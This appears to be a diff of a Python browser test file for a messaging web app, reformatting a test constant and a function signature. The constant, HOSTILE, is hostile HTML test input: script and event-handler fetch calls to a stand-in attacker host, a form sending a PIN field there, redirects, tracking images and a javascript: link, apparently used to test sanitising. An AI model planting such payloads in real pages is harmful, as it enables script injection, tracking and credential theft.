@@ -22,14 +22,18 @@ pytestmark = [pytest.mark.needs_program("chromium"), pytest.mark.slow]
 PICTURES = os.environ.get("MM_SOAP_TEST_PICTURES")
 """A folder into which the pages are written as pictures, for the documentation and for looking at."""
 
-HOSTILE = """<h1>Hej</h1><p onclick="boom()">Text</p><script>fetch('https://evil.example/script')</script>
+HOSTILE = (
+    """<h1>Hej</h1><p onclick="boom()">Text</p><script>fetch('https://evil.example/script')</script>
 <img src="https://evil.example/pixel.png" onerror="fetch('https://evil.example/error')">
 <form action="https://evil.example/form"><input name="pin"><button>Skicka</button></form>
 <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
 <link rel="stylesheet" href="https://evil.example/style"><base href="https://evil.example/">
 <meta http-equiv="refresh" content="0;url=https://evil.example/meta"><svg onload="fetch('https://evil.example/svg')"/>
 <div style="background-image:url(https://evil.example/css)">x</div><a href="javascript:alert(1)">klicka</a>
-<table width="9000"><tr>""" + "<td>cell</td>" * 300 + "</tr></table>"
+<table width="9000"><tr>"""
+    + "<td>cell</td>" * 300
+    + "</tr></table>"
+)
 
 
 @pytest.fixture(scope="module")
@@ -213,9 +217,7 @@ def test_contact_settings(served: Server, page: Page, look: str) -> None:
     expect(page.get_by_label("Mobile number")).to_have_value("0701740605")
 
 
-def test_a_message_is_forwarded_to_another_operator(
-    demo: Demonstration, served: Server, page: Page, look: str
-) -> None:
+def test_a_message_is_forwarded_to_another_operator(demo: Demonstration, served: Server, page: Page, look: str) -> None:
     subject = f"Kallelse {look}"
     send(demo, served, new_message(subject, text="Kom.", attachments=[("a.pdf", "application/pdf", PDF)]))
     sign_in(page, served)
